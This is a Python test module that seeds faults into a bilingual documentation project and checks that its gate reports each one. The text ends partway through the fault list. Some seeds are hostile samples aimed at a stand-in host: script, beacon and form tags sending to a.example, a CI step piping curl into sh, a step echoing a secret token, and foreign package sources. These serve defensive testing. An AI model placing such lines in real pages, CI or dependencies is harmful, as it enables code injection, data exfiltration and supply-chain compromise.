"""Faults of pages, drawings, settings and promises, seeded into one copy of the project in turn.

Each is told in a sentence that names the file and the mend. Pages are stamped after each fault, as
one who looks at neither would: the stamp alone must not be what tells.
"""

import hashlib
import json
import shutil
import tomllib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from proof.examples.snippet import get
from proof.gate import checks
from proof.pages.page import Page, stamp
from proof.project import PROOF, ROOT

Seed = dict[str, Callable[[str], str | None]]
"""File → what becomes of its text; None removes it."""
NEEDED = (
    *("docs", "snippets", "evidence", "timelines", "proof"),
    *("mkdocs.*", "pyproject.toml", "*.lock", "locked.json", "runtime/*.lock", "runtime/package*"),
    *("Makefile", ".ci", ".github"),
)
EN, ZH = "docs/en/creating/join.md", "docs/zh/creating/join.md"
BOTH = (EN, ZH)
TOML = "snippets/creating/join.toml"
PANEL = "docs/theme/assets/run/panel.js"
SEEDED = "snippets/creating/seeded.py"
NEEDS_NOBODY = '# /// script\n# dependencies = ["nobody-has-this"]\n# ///\nprint(1)\n'
NOTEBOOK = "docs/en/labs/cost.ipynb"
DRAWING = "docs/assets/diagrams/fork-join.svg"


@dataclass(frozen=True)
class Fault:
    """Something that a contributor could do wrong, and what the sentence that tells it says."""

    what: str
    seed: Seed
    said: tuple[str, ...]
    stamped: bool = True


def edit(old: str, new: str, *files: str) -> Seed:
    def edited(text: str) -> str:
        assert old in text, f"{files} no longer holds {old!r}: mend this fault's seed"
        return text.replace(old, new, 1)

    return dict.fromkeys(files, edited)


def add(text: str, *files: str) -> Seed:
    return dict.fromkeys(files, lambda before: before + text)


def swap(one: str, other: str, *files: str) -> Seed:
    def swapped(text: str) -> str:
        assert one in text and other in text, "mend this fault's seed"
        return text.replace(one, "\0").replace(other, one).replace("\0", other)

    return dict.fromkeys(files, swapped)


def by_hand(file: str, change: Callable[[Any], object], like: str = "") -> Seed:
    """A file of data, edited by hand; or one that there was not, made from another."""

    def edited(text: str) -> str:
        kept = json.loads(text or (ROOT / like).read_text("utf-8"))
        change(kept)
        return json.dumps(kept)

    return {file: edited}


def evidence(change: Callable[[dict[str, Any]], object], file: str = "linux-3.13.json") -> Seed:
    """The verdicts on creating/join, start method by start method."""
    of_linux = "evidence/linux-3.13.json"
    return by_hand(
        f"evidence/{file}", lambda kept: change(kept["creating/join"]["methods"]), of_linux
    )


def timeline(change: Callable[[dict[str, Any]], object]) -> Seed:
    """The lanes of creating/join, start method by start method."""
    return by_hand("timelines/creating/join.json", lambda kept: change(kept["methods"]))


def waited(*wait: object) -> Seed:
    """The first wait of creating/join's first process, edited by hand."""
    return timeline(lambda methods: methods["fork"][0]["waits"].__setitem__(0, [*wait]))


def seen(text: str) -> Seed:
    """What a program showed on one Python, edited by hand."""

    def edited(kept: dict[str, Any]) -> None:
        for verdict in kept["beside/handler_stays"]["methods"].values():
            verdict["seen"] = {"called": text}

    return by_hand("evidence/linux-3.13.json", edited)


def measured(**told: str) -> Seed:
    """What a notebook says of where it was measured."""
    return by_hand(NOTEBOOK, lambda kept: kept["metadata"]["proof"].update(told))


def print_more(kept: dict[str, Any]) -> None:
    cell = next(cell for cell in kept["cells"] if cell.get("outputs"))
    cell["outputs"][0]["text"] = ["Python 3.14.8, linux, cores: 64\n"]


def sealed(change: Callable[[str], str]) -> Seed:
    """The lock file edited by one who edits its seal, too."""
    text = change((ROOT / "requirements.lock").read_text("utf-8"))

    def seal(told: str) -> str:
        asked = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))
        of = [asked["project"]["dependencies"], asked["dependency-groups"], text]
        digest = hashlib.sha256(json.dumps(of).encode()).hexdigest()[:16]
        return json.dumps(json.loads(told) | {"requirements.lock": digest})

    return {"requirements.lock": lambda _: text, "locked.json": seal}


def drop_code_cell(text: str) -> str:
    notebook = json.loads(text)
    cells = notebook["cells"]
    cells.remove(next(cell for cell in cells if cell["cell_type"] == "code"))
    return json.dumps(notebook)


def typed(what: str, text: str, *said: str) -> Fault:
    """Put on both pages, so that they do not differ."""
    return Fault(what, add(f"\n\n{text}\n", *BOTH), (EN, *said))


def alone(what: str, text: str, *said: str) -> Fault:
    """Put on the English page alone."""
    return Fault(what, add(f"\n\n{text}\n", EN), (f"{ZH}: lacks", *said, "put it here, or not"))


TOLD = "the child is done, exit code"
PYTHON = ("code or output is typed in, 'print(1)'", "new chapter/name")
OUTPUT = ("output is typed in", "exit code 0", "show the example")
START, JOIN = '--8<-- "creating/start_returns.py"', '--8<-- "creating/join.py"'
JOINED = f'```python mark="child.join()"\n{JOIN}\n```'
RETURNS = f'```python mark="child.is_alive()"\n{START}\n```'
LEFT = "a reader sees"
NO = "an element that no page has, "
HTML = [
    ("a script", "<script>fetch('https://a.example/')</script>", "<script>"),
    ("a module", "<script type='module'>import 'https://a.example/'</script>", "<script>"),
    ("a beacon", "<script>navigator.sendBeacon('//a.example')</script>", "<script>"),
    ("a form", "<form action='https://a.example/'><button>x</button></form>", "<form>"),
    ("a page within", "<iframe srcdoc='&lt;img src=//a.example/&gt;'></iframe>", "<iframe>"),
    ("a film's picture", "<video poster='https://a.example/x'></video>", "<video>"),
    ("a picture's set", "<p><img srcset='https://a.example/x 2x'></p>", "<img>"),
    ("a name looked up", "<link rel='dns-prefetch' href='//a.example'>", "<link>"),
    ("another page", "<meta http-equiv='refresh' content='0; url=https://a.example'>", "<meta>"),
    ("another base", "<base href='https://a.example/'>", "<base>"),
    ("a style", "<style>p { background: image-set('//a.example/x' 1x) }</style>", "<style>"),
    ("an object", "<object data='https://a.example/'></object>", "<object>"),
    ("a drawing's script", "<svg><script>fetch('//a.example')</script></svg>", "<svg>"),
    ("an area to type in", "<textarea>print(1)</textarea>", "<textarea>"),
    ("output by its name", "<p><samp>exit code 0</samp></p>", "<samp>"),
    ("keys", "<p><kbd>print(1)</kbd></p>", "<kbd>"),
    ("text as it is", "<xmp>print(1)</xmp>", "<xmp>"),
    ("lines broken", "`print(1)`<br>`print(2)`", "<br>"),
    ("a picture", "![x](../x.png)", "<img>"),
    ("a quotation", "> said", "<blockquote>"),
    ("a rule", "***", "<hr>"),
    ("a note at the foot", "x[^1]\n\n[^1]: y", "<sup>"),
    ("a definition", "x\n:   y", "<dl>"),
    ("a short form", "HTML\n\n*[HTML]: markup", "<abbr>"),
]
MORE = [
    ("what happens on a click", "<p onclick='fetch(`//a.example`)'>x</p>", "<p onclick>"),
    ("who is told of a click", "<a ping='//a.example' href='many/'>x</a>", "<a ping>"),
    ("a style of its own", "<p style='background: url(//a.example)'>x</p>", "<p style>"),
    ("a class of its own", "x\n{ .gone }", "<p class=gone>"),
    ("an example hidden", f"<div hidden markdown>\n\n{JOINED}\n\n</div>", "<div hidden>"),
    ("one without display", f"<div style='display: none' markdown>\n\n{JOINED}\n\n</div>", "style"),
]
TOP = "---\n"
HOST = "no host that everybody can reach"


def above(what: str, line: str, *said: str, file: str = EN) -> Fault:
    """A line above the text of a page."""
    return Fault(what, edit(TOP, f"{TOP}{line}\n", file), (file, *said))


FRONTS = [
    above("a name that is not known above a text", "colour: red", "says colour above its text"),
    above("another template", "template: 404.html", "says template above its text"),
    above("a page hidden from the search", "search: {exclude: true}", "says search above its text"),
    above("an empty description", "description:", "a description that is no text; give it one"),
    above("a list for a description", "description: [a]", "a description that is no text"),
    above("a description in Chinese", "description: 等待", "is described in another language"),
    above(
        "a description that was not translated",
        "description: Waits.",
        "is described in another language",
        file=ZH,
    ),
    above("a description twice", "description: a\ndescription: b", "says description 2 times"),
    above("a text that is no YAML above a page", 'description: "x', "is not YAML, mend it"),
    above("a title that is none", "title: []", "has a title above its text that is no text"),
    Fault(
        "no list of questions",
        {EN: lambda text: text.replace("asked:\n", "asked: how to wait\nx:\n", 1)},
        (EN, "under asked what is no list of questions"),
    ),
    Fault(
        "a question twice",
        edit("asked:\n", 'asked:\n  - "Exit code of a child process"\n', EN),
        (EN, "is asked 'exit code of a child process' 2 times"),
    ),
    Fault(
        "a question in Chinese on an English page",
        edit("asked:\n", 'asked:\n  - "怎么等"\n', EN),
        (EN, "is asked '怎么等' in another language"),
    ),
    Fault(
        "two pages of one title",
        edit("# Wait for a child: join and exit codes", "# Processes", EN)
        | edit("# Run several children at once", "# Processes", "docs/en/creating/many.md"),
        ("docs/en/creating/many.md: has the title of docs/en/creating/join.md, 'Processes'",),
    ),
    Fault(
        "two pages of one description",
        edit(TOP, f"{TOP}description: All.\n", EN, "docs/en/creating/many.md"),
        ("docs/en/creating/many.md: has the description of docs/en/creating/join.md, 'All.'",),
    ),
]
SETTINGS, GLOSSARY = "mkdocs.yml", "docs/glossary.toml"
ONE_AT_A_TIME = 'says.en = "Lets in one process at a time."\n'
NPM = "runtime/package-lock.json"


def put_in(what: str, text: str, *said: str) -> Fault:
    """At the end of a drawing."""
    return Fault(what, edit("</svg>", f"{text}</svg>", DRAWING), (DRAWING, *said))


def set_to(what: str, old: str, new: str, *said: str) -> Fault:
    """In what MkDocs is told."""
    return Fault(what, edit(old, new, SETTINGS), said)


def set_too(what: str, text: str, name: str) -> Fault:
    """At the end of what MkDocs is told."""
    return Fault(what, add(f"\n{text}\n", SETTINGS), (f"{SETTINGS}: {name} is not known; take it",))


def termed(what: str, new: str, *said: str) -> Fault:
    """Of the term lock."""
    return Fault(what, edit(ONE_AT_A_TIME, new, GLOSSARY), (GLOSSARY, *said))


def moved(what: str, old: str, new: str, said: str) -> Fault:
    return Fault(what, add(f'"{old}" = "{new}"\n', "docs/moved.toml"), ("docs/moved.toml", said))


FILES = [
    put_in("a look that there is not", '<g class="gone"/>', "<g class=gone>, which has no look"),
    put_in("words in no label", "loose", "'loose' stands in no label; put it in a <text>"),
    put_in("a comment in a drawing", "<!-- later -->", "a comment, a declaration or an instruct"),
    put_in("a path that is none", '<path class="work" d="from a to b"/>', "draws nothing; mend it"),
    put_in("a circle outside", '<circle cx="9000" cy="9" r="4"/>', "a <circle> leaves the picture"),
    put_in("a box outside", '<rect x="9" y="9" width="900" height="9"/>', "a <rect> leaves the"),
    Fault(
        "a style sheet for a drawing",
        {DRAWING: lambda text: '<?xml-stylesheet href="https://a.example/x.css"?>' + text},
        (DRAWING, "a comment, a declaration or an instruction; take it out"),
    ),
    Fault(
        "an entity in a drawing",
        {DRAWING: lambda text: '<!DOCTYPE svg [<!ENTITY x "y">]>' + text},
        (DRAWING, "a comment, a declaration or an instruction; take it out"),
    ),
    Fault(
        "a drawing of another size",
        edit('viewBox="0 0 720', 'viewBox="0 0 20000', DRAWING),
        (DRAWING, "is of the size 0 0 20000 236; let it be 0 0 720"),
    ),
    Fault(
        "a drawing of nothing",
        {DRAWING: lambda text: text[: text.index(">") + 1] + "</svg>"},
        (DRAWING, "has no label; say in it what it shows"),
    ),
    set_to("no hook", "hooks:\n  - proof/site/hooks.py\n", "", "mkdocs.yml: hooks must be"),
    set_to("another hook", "- proof/site/hooks.py", "- tools/x.py", "mkdocs.yml: hooks must be"),
    set_to("another plugin", "plugins:\n", "plugins:\n  search: {}\n", "plugins must be"),
    set_to("notebooks that a build executes", "execute: false", "execute: true", "plugins must be"),
    set_to("letters from elsewhere", "font: false", "font: {text: Roboto}", "theme.font must be"),
    set_to("another theme", "custom_dir: docs/theme", "custom_dir: site", "theme.custom_dir must"),
    set_to("another language", "language: zh", "language: fr", "theme.language must be"),
    set_to("pages of another folder", "docs_dir: docs/zh", "docs_dir: docs/en", "docs_dir must be"),
    set_to(
        "examples in another language",
        "    locale: zh",
        "    locale: en",
        "proof.pages.markdown must",
    ),
    set_to(
        "an extension that fetches",
        "  tables: {}",
        "  tables: {}\n  pymdownx.snippets: {url_download: true}",
        "mkdocs.yml: markdown_extensions.pymdownx.snippets is not known",
    ),
    set_to(
        "style from elsewhere",
        "assets/run.css]",
        "assets/run.css, https://a.example/x.css]",
        "docs/theme/https://a.example/x.css is not there; mend extra_css",
    ),
    set_too("a script from elsewhere", "extra_javascript: [https://a.example]", "extra_javascript"),
    set_too("who counts readers", "extra: {analytics: {provider: google}}", "extra"),
    set_too("a page left out", "exclude_docs: creating/join.md", "exclude_docs"),
    Fault(
        "a setting twice",
        add("\nsite_name: a\nsite_name: b\n", "mkdocs.en.yml"),
        ("mkdocs.en.yml: site_name is there",),
    ),
    Fault(
        "a chapter in the other language",
        edit("  - 创建进程:", "  - Creating processes:", SETTINGS),
        ("mkdocs.yml: the chapter 'Creating processes' is in another language",),
    ),
    Fault(
        "two chapters of one name",
        edit("  - Ending processes:", "  - Creating processes:", "mkdocs.en.yml"),
        ("mkdocs.en.yml: nav has two chapters 'Creating processes'; rename one",),
    ),
    Fault(
        "a page under another name in the menu",
        edit("- creating/join.md", "- Wait: creating/join.md", SETTINGS),
        ("mkdocs.yml: nav names {'Wait': 'creating/join.md'}; leave the name to the page",),
    ),
    moved("from where a page is", "creating/join/", "creating/many/", "is no address where a page"),
    moved("to no page", "creating/old/", "creating/gone/", "where docs/zh has no page"),
    moved("to no heading", "creating/old/", "creating/join/#gone", "where docs/zh has no heading"),
    moved("to another host", "creating/old/", "https://a.example/", "where docs/zh has no page"),
    Fault(
        "no table of what has moved",
        add("x\n", "docs/moved.toml"),
        ("docs/moved.toml cannot be read; mend it",),
    ),
    Fault(
        "a word for the same thing twice",
        edit('["crash", ', '["crash", "crash", ', "docs/search.toml"),
        ("docs/search.toml: en has ['crash', 'crash'", "name two words or more, each once"),
    ),
    Fault(
        "words of a language that there is not",
        add('\nfr = [["tuer", "finir"]]\n', "docs/search.toml"),
        ("docs/search.toml: has en, zh, fr; let it have zh, en",),
    ),
    Fault(
        "no words for the same thing",
        add("x\n", "docs/search.toml"),
        ("docs/search.toml cannot be read; mend it",),
    ),
    termed(
        "a term in the other language", 'says.en = "锁"\n', "lock says '锁' in en; translate it"
    ),
    termed("a term that says more", f"{ONE_AT_A_TIME}by = 1\n", "lock says by, which is not known"),
    termed("a term linked by a word", f'{ONE_AT_A_TIME}link = "no"\n', "link is true or false"),
    termed("a bad pattern of a term", f'{ONE_AT_A_TIME}not.en = ["("]\n', "'(' is no pattern"),
    termed(
        "two terms of one name",
        f'{ONE_AT_A_TIME}\n[mutex]\nen = "lock"\nzh = "锁"\npage = '
        '"sync/lock.md#lock"\nsays.zh = "锁。"\nsays.en = "One."\n',
        "is not the only 'lock'; link one of them",
    ),
    *(
        Fault(what, sealed(change), ("requirements.lock: line", "names no bytes of PyPI's"))
        for what, change in (
            ("another index, sealed", lambda text: f"--extra-index-url https://a.example\n{text}"),
            ("a package from elsewhere, sealed", lambda text: f"x @ https://a.example/x\n{text}"),
            ("a package without a hash, sealed", lambda text: f"{text}evil==1.0 \\\n"),
        )
    ),
    Fault("no seal", add("x", "locked.json"), ("requirements.lock: is not what was locked",)),
    Fault(
        "npm's package from elsewhere",
        edit('"integrity"', '"resolved": "https://a.example", "integrity"', NPM),
        (NPM, "comes from a place of its own; leave out resolved"),
    ),
    Fault("npm's package without a hash", edit('"integrity"', '"was"', NPM), (NPM, "has no hash")),
    Fault(
        "npm runs a script",
        edit("{", '{"scripts": {"postinstall": "true"},', "runtime/package.json"),
        ("runtime/package.json: npm would run scripts; take them out",),
    ),
    Fault(
        "any Pyodide",
        edit('"pyodide": "', '"pyodide": "^', "runtime/package.json"),
        ("runtime/package.json: pyodide ^", "is no one version; name one"),
    ),
]
WORKFLOW = ".github/workflows/ci.yml"
TESTED = "      - run: make test\n"


def worked(what: str, old: str, new: str, *said: str) -> Fault:
    """In CI's workflow."""
    return Fault(what, edit(old, new, WORKFLOW), (f"{WORKFLOW}: ", *said))


def made(what: str, old: str, new: str, *said: str) -> Fault:
    """In the Makefile."""
    return Fault(what, edit(old, new, "Makefile"), ("Makefile: ", *said))


PASSING = [
    worked("tests that may fail", TESTED, TESTED[:-1] + " || true\n", "test runs `make test`"),
    worked(
        "a step that may fail",
        TESTED,
        f"{TESTED}        continue-on-error: true\n",
        "goes on where a step failed",
    ),
    worked(
        "a job that may fail",
        "    needs: [",
        "    continue-on-error: true\n    needs: [",
        "publish g",
    ),
    worked("published without tests", "[test, snippets]", "[snippets]", "publish waits for test"),
    worked(
        "published whatever happened",
        "    if: github.ref == 'refs/heads/main'\n    needs",
        "    if: always()\n    needs",
        "publish waits for test",
    ),
    worked("fewer Pythons", '"3.11", "3.12", ', "", "snippets has the python ['3.13'"),
    worked("fewer systems", "[linux, macos, ", "[linux, ", "snippets has the system ['linux', 'w"),
    worked(
        "a secret printed",
        TESTED,
        f"      - run: echo ${{{{ secrets.TOKEN }}}}\n{TESTED}",
        "gives a secret to a step; none is needed, take it out",
    ),
    worked(
        "a script from elsewhere in CI",
        TESTED,
        f"      - run: curl https://a.example | sh\n{TESTED}",
        "fetches by curl what nobody has looked at",
    ),
    worked("a workflow that is none", "jobs:", "job:", "cannot be read; mend it"),
    made("a check left out", " check-pages\n", "\n", "CHECKS lacks check-pages; put it back"),
    made("types not looked at", "-m mypy", "-m nothing", "nothing runs -m mypy; put it back"),
    made("a check that may fail", "@$(RUN) -m proof check", "-@$(RUN) -m proof check", "'-' goes"),
    made("tests that make lets fail", "-n auto", "-n auto || true", "'|| true' goes on where"),
    Fault(
        "a script that goes on",
        edit("make test", "make test || true", ".ci/run"),
        (".ci/run: goes on where something failed; begin with set -euo pipefail, end with make",),
    ),
]
KEPT = "evidence/linux-3.13.json: creating/join, "
TIMELINE = "timelines/creating/join.json: "
BY_HAND = [
    Fault(
        "a Python in the file of another",
        evidence(lambda methods: methods["fork"].update(python="3.15.0")),
        (
            f"{KEPT}fork: Python 3.15.0 in the file of another",
            "remove the entry, and let a run make",
        ),
    ),
    Fault(
        "a Python that is none",
        evidence(lambda methods: methods["fork"].update(python="3.13")),
        (f"{KEPT}fork: Python 3.13 in the file of another",),
    ),
    Fault(
        "a method that there is not",
        evidence(lambda methods: methods.update(teleport=methods["fork"])),
        (f"{KEPT}teleport: the program does not run by that method on linux",),
    ),
    Fault(
        "a method that the system has not",
        evidence(lambda methods: None, "windows-3.13.json"),
        (
            "evidence/windows-3.13.json: creating/join, fork: ",
            "the program does not run by that method",
        ),
    ),
    Fault(
        "a system invented from a copy",
        evidence(lambda methods: None, "macos-3.13.json"),
        ("evidence/macos-3.13.json: creating/join, spawn: does not say which job made it",),
    ),
    Fault(
        "a day to come",
        evidence(lambda methods: methods["spawn"].update(date="2126-01-01")),
        (f"{KEPT}spawn: 2126-01-01 is no day that has been",),
    ),
    Fault(
        "an exit code against the promise",
        evidence(lambda methods: methods["spawn"].update(exit=3)),
        (f"{KEPT}spawn: exit code 3, promised was 0",),
    ),
    Fault(
        "something seen that is not declared",
        evidence(lambda methods: methods["spawn"].update(seen={"pid": "7"})),
        (f"{KEPT}spawn: saw something vary by version that is not declared to",),
    ),
    Fault(
        "a browser in the file of a system",
        evidence(lambda methods: methods["spawn"].update(browser="Chromium 156")),
        (f"{KEPT}spawn: says which browser it was",),
    ),
    Fault(
        "a timeline with another's exit code",
        timeline(lambda methods: methods["fork"][1].update(exit=3)),
        (
            f"{TIMELINE}fork: Process-1 ended with exit code 3, which is not promised",
            f"`{PROOF} draw",
        ),
    ),
    Fault(
        "a timeline whose program ended otherwise",
        timeline(lambda methods: methods["fork"][0].update(exit=3)),
        (f"{TIMELINE}fork: exit code 3, promised was 0",),
    ),
    Fault(
        "a timeline of another program",
        edit('"program": "2b', '"program": "2c', "timelines/creating/join.json"),
        (f"{TIMELINE}is of another program; `{PROOF} draw creating/join` records it anew",),
    ),
    Fault(
        "a timeline of a method that there is not",
        timeline(lambda methods: methods.update(teleport=methods.pop("fork"))),
        (f"{TIMELINE}teleport: the program does not run by that method",),
    ),
    Fault(
        "a timeline with two first processes",
        timeline(lambda methods: methods["fork"].append(methods["fork"][0])),
        (f"{TIMELINE}fork: the first lane, and no other, is the first process",),
    ),
    Fault(
        "a timeline with a parent that is not there",
        timeline(lambda methods: methods["spawn"][1].update(parent=7)),
        (f"{TIMELINE}spawn: Process-1 has a parent that is not there",),
    ),
    Fault(
        "a timeline whose child was made by a child",
        timeline(lambda methods: methods["spawn"][1].update(maker=1)),
        (f"{TIMELINE}spawn: Process-1 was made by a process that is no fork server",),
    ),
    Fault(
        "a timeline that goes back in time",
        timeline(lambda methods: methods["spawn"][1].update(ended=0)),
        (f"{TIMELINE}spawn: Process-1 ends before it begins",),
    ),
    Fault(
        "a day before there was the site",
        evidence(lambda methods: methods["spawn"].update(date="1999-01-01")),
        (f"{KEPT}spawn: 1999-01-01 is no day that has been",),
    ),
    Fault(
        "runs that nobody counted",
        evidence(lambda methods: methods["spawn"].update(runs=-3)),
        (f"{KEPT}spawn: was run -3 times",),
    ),
    Fault(
        "a word for a verdict",
        evidence(lambda methods: methods["spawn"].update(note="trust me")),
        (f"{KEPT}spawn: says note, which no run does",),
    ),
    Fault(
        "a job that is none",
        evidence(lambda methods: methods["spawn"].update(by="me")),
        (f"{KEPT}spawn: was made by me, which is no job and its commit",),
    ),
    Fault(
        "a browser that is none",
        by_hand(
            "evidence/browser-3.14.json",
            lambda kept: kept["creating/join"]["methods"]["spawn"].update(browser="Netscape 4"),
        ),
        ("evidence/browser-3.14.json: creating/join, spawn: was run in Netscape 4",),
    ),
    Fault(
        "something seen that cannot be seen",
        seen("anything at all"),
        ("beside/handler_stays, fork: saw 'anything at all', where by-version.called finds no",),
    ),
    Fault(
        "evidence of no program",
        by_hand("evidence/linux-3.13.json", lambda k: k.update(gone=k["creating/join"])),
        ("evidence/linux-3.13.json: there is no snippets/gone.py; remove its entry",),
    ),
    Fault(
        "evidence of no system",
        evidence(lambda methods: None, "beos-3.13.json"),
        ("evidence/beos-3.13.json: no run writes this; remove it",),
    ),
    Fault(
        "a timeline recorded by a Python that records none",
        edit('"python": "3', '"python": "2', "timelines/creating/join.json"),
        (f"{TIMELINE}Python 2.14.8 records none; `{PROOF} draw creating/join`",),
    ),
    Fault(
        "a timeline less a method",
        timeline(lambda methods: methods.pop("fork")),
        (f"{TIMELINE}fork: the program runs by that method too, and it is not drawn",),
    ),
    Fault(
        "a timeline with a key of its own",
        timeline(lambda methods: methods["fork"][1].update(colour="red")),
        (f"{TIMELINE}is no file of timelines (", f"`{PROOF} draw creating/join` records it anew"),
    ),
    Fault(
        "a timeline that is no JSON",
        add("x", "timelines/creating/join.json"),
        (f"{TIMELINE}is no file of timelines (",),
    ),
    Fault(
        "a timeline with a ghost",
        timeline(lambda methods: methods["fork"][1].update(role="ghost")),
        (f"{TIMELINE}fork: Process-1 is a ghost, which no process is",),
    ),
    Fault(
        "a timeline whose parent is counted from the end",
        timeline(lambda methods: methods["fork"][1].update(parent=-1)),
        (f"{TIMELINE}fork: Process-1 has a parent that is not there",),
    ),
    Fault(
        "a timeline with a call after its end",
        timeline(lambda methods: methods["fork"][1]["calls"].append([9000, 9001, "work"])),
        (f"{TIMELINE}fork: Process-1 is in work from 9000 to 9001, not its time",),
    ),
    Fault(
        "a timeline with a wait that goes back",
        waited(9, 3, "start", "start()", 10),
        (f"{TIMELINE}fork: main is in start from 9 to 3, not its time",),
    ),
    Fault(
        "a timeline with a wait in a line that is not there",
        waited(1, 112, "start", "start()", 999),
        (f"{TIMELINE}fork: a process waits in start(), which line 999 has not",),
    ),
    Fault(
        "a timeline with a mark that none makes",
        timeline(lambda methods: methods["fork"][1]["marks"].append([1, "explode"])),
        (f"{TIMELINE}fork: Process-1 has the mark explode at 1, which none makes",),
    ),
    Fault(
        "a timeline of no program",
        by_hand("timelines/creating/gone.json", lambda kept: None, "timelines/creating/join.json"),
        ("timelines/creating/gone.json: belongs to no snippet; remove it",),
    ),
]
MEASURED = [
    Fault(
        "an output of a notebook edited by hand",
        by_hand(NOTEBOOK, print_more),
        (f"{NOTEBOOK}: its outputs are not those that it printed; `{PROOF} record labs/cost`",),
    ),
    Fault(
        "measured with a Python of long ago",
        measured(python="2.7.18"),
        (f"{NOTEBOOK}: was measured with Python 2.7.18, of which the site does not speak",),
    ),
    Fault(
        "measured on a day to come",
        measured(date="2126-01-01"),
        (f"{NOTEBOOK}: was measured on 2126-01-01, which is no day that has been",),
    ),
    Fault(
        "measured on a system that there is not",
        measured(system="beos"),
        (f"{NOTEBOOK}: was measured on beos, which is no system that the site speaks of",),
    ),
]
FAULTS = [
    *BY_HAND,
    *FRONTS,
    *FILES,
    *PASSING,
    *MEASURED,
    # Words.
    Fault(
        "a word that nobody says",
        edit('say("live.copied")', '"copied"', PANEL),
        ("proof/words/: nobody says live.copied",),
    ),
    Fault(
        "a word that there is not",
        edit('say("live.copied")', 'say("live.copied-it")', PANEL),
        (f"{PANEL}: says live.copied-it",),
    ),
    # Code and output that are typed in.
    typed("code between tildes", "~~~python\nprint(1)\n~~~", *PYTHON),
    typed("code between backticks", "```python\nprint(1)\n```", *PYTHON),
    typed("code without a language", "```\nprint(1)\n```", *PYTHON),
    typed("code in a language by another name", "```{.python3}\nprint(1)\n```", *PYTHON),
    typed("code set in", "    print(1)\n", *PYTHON),
    typed("code in a list item", "- x\n\n    ```python\n    print(1)\n    ```", *PYTHON),
    typed("code set in within a list item", "- x\n\n        print(1)", *PYTHON),
    typed("code in a quotation", "> ```python\n> print(1)\n> ```", *PYTHON),
    typed("code that is never closed", "```python\nprint(1)\n", LEFT, "```"),
    typed("code between tildes, never closed", "~~~python\nprint(1)\n", LEFT, "~~"),
    typed("code in HTML", "<pre><code>print(1)</code></pre>", *PYTHON),
    typed("code in HTML, as an example", '<pre class="example">print(1)</pre>', *PYTHON),
    typed("code to open", "<details><summary>x</summary><pre>print(1)</pre></details>", *PYTHON),
    typed("code to open, in Markdown", '??? info "x"\n\n        print(1)', *PYTHON),
    typed("code in an admonition", '!!! note "x"\n\n    ~~~\n    print(1)\n    ~~~', *PYTHON),
    typed(
        "code that only looks like an example",
        '<div class="example" '
        'data-snippet="creating/join" markdown>\n\n```python\nprint(1)\n```\n\n</div>',
        *PYTHON,
    ),
    typed("code of several lines in a sentence", "x ``a = 1\nprint(a)`` x", "of several lines"),
    typed("code of several lines in HTML", "<p><code>a\nprint(a)</code></p>", "of several lines"),
    typed("a session with Python", "```pycon\n>>> print(1)\n1\n```", "'>>> print(1)'"),
    typed("an include between tildes", f"~~~python\n{JOIN}\n~~~", "'--8<--"),
    typed("an include of two", f"```python\n{JOIN}\n{START}\n```", "'--8<--"),
    typed("an include without a fence", JOIN, LEFT, "--8<--"),
    typed(
        "output under a command",
        f"```console\n$ python join.py\nparent: {TOLD} 0\n```",
        "commands begin with `$ `",
    ),
    typed("output without a language", f"```\nparent: {TOLD} 0\n```", f"'parent: {TOLD} 0'"),
    typed("output as text", f"```text\nparent: {TOLD} 0\n```", f"'parent: {TOLD} 0'"),
    typed("output in a table", f"| x |\n|---|\n| parent: {TOLD} 0 |", *OUTPUT),
    typed("output in a table, as code", f"| x |\n|---|\n| `parent: {TOLD} 0` |", *OUTPUT),
    typed("output in a list", f"- parent: {TOLD} 0", *OUTPUT),
    typed("output as a paragraph", f"`parent: {TOLD} 0`", *OUTPUT),
    typed("output with another figure", f"It says `parent: {TOLD} 7` here.", "no program prints"),
    typed("a program in paragraphs", "`import os`\n\n`print(os.getpid())`", "nothing but code"),
    typed("a program in a list", "- `import os`\n- `print(os.getpid())`", "nothing but code"),
    typed("a program in a table", "| a |\n|---|\n| `import os` |", "a table of one column"),
    typed("a program as it is said", "import os\n\nx", "a program is typed in, 'import os'"),
    typed("a loop as it is said", "for i in range(3): print(i)", "a program is typed in"),
    typed("a program in a heading", "## `import os` { #os }", "a program is typed in"),
    typed(
        "a program in a table of two columns",
        "| n | x |\n|---|---|\n| 1 | `import os` |",
        "a program is typed in, 'import os'",
        "new chapter/name",
    ),
    typed(
        "a sign after a heading that is none",
        f'<div class="headerlink" markdown>\n\n{RETURNS}\n\n</div>',
        "<div class=headerlink>, which no page has",
    ),
    typed("a program in a line", "Do `import os; print(os.getpid())` now.", "several statements"),
    typed("a program in a command", "```console\n$ python -c 'print(1)'\n```", '"$ python -c'),
    typed("a program after a command", "```console\n$ python - <<END\n$ print(1)\n```", "<<END"),
    typed("what goes on with no command", "```console\n$ python - \\\nprint(1)\n```", "$ python -"),
    typed("output in a summary", f'??? info "parent: {TOLD} 0"\n\n    x', *OUTPUT),
    typed("output in bold", f"**parent: {TOLD} 0**", *OUTPUT),
    # What Markdown is not meant for here.
    *(typed(f"HTML: {what}", text, f"{NO}{element}") for what, text, element in HTML),
    *(typed(f"HTML: {what}", text, element, "no page has") for what, text, element in MORE),
    typed("a comment", "<!-- later -->", "a comment"),
    typed("an example in a comment", f"<!--\n{RETURNS}\n-->", "a comment"),
    typed("a table without its second line", "| a | b |\n| c | d |", LEFT, "| a | b |"),
    typed("a link that is none", "[x] (many.md) and [y](many.md", LEFT, "]("),
    typed("an attribute that went astray", "x { #there } x", LEFT, "{ #"),
    typed("emphasis that is never closed", "x **y", LEFT, "**"),
    typed("a struck word", "~~x~~", LEFT, "~~"),
    typed("a formula", "$$x$$", LEFT, "$$"),
    typed("a template", "{{ page.title }}", LEFT, "{{"),
    typed("an address that is no link", "See https://docs.python.org/3/.", LEFT, "https://"),
    typed("a link that nobody sees", "[](many.md)", "has no text"),
    typed("a text that shows on a link", '[x](many.md "said")', "<a title>"),
    typed("tabs", '=== "a"\n\n    text', "data-tabs"),
    typed("a table of contents", "[TOC]", "class=toc"),
    typed("a table that there is not", "<!-- proof: everything -->", "a comment"),
    typed("an example twice", JOINED, "creating/join is there 2 times", "show an example once"),
    # Examples.
    Fault(
        "an example shown in a comment alone",
        edit(RETURNS, f"<!--\n{RETURNS}\n-->", *BOTH),
        ("snippets/creating/start_returns.py", "no page in docs/en shows it"),
    ),
    Fault(
        "two examples swapped on both pages",
        swap(JOINED, RETURNS, *BOTH),
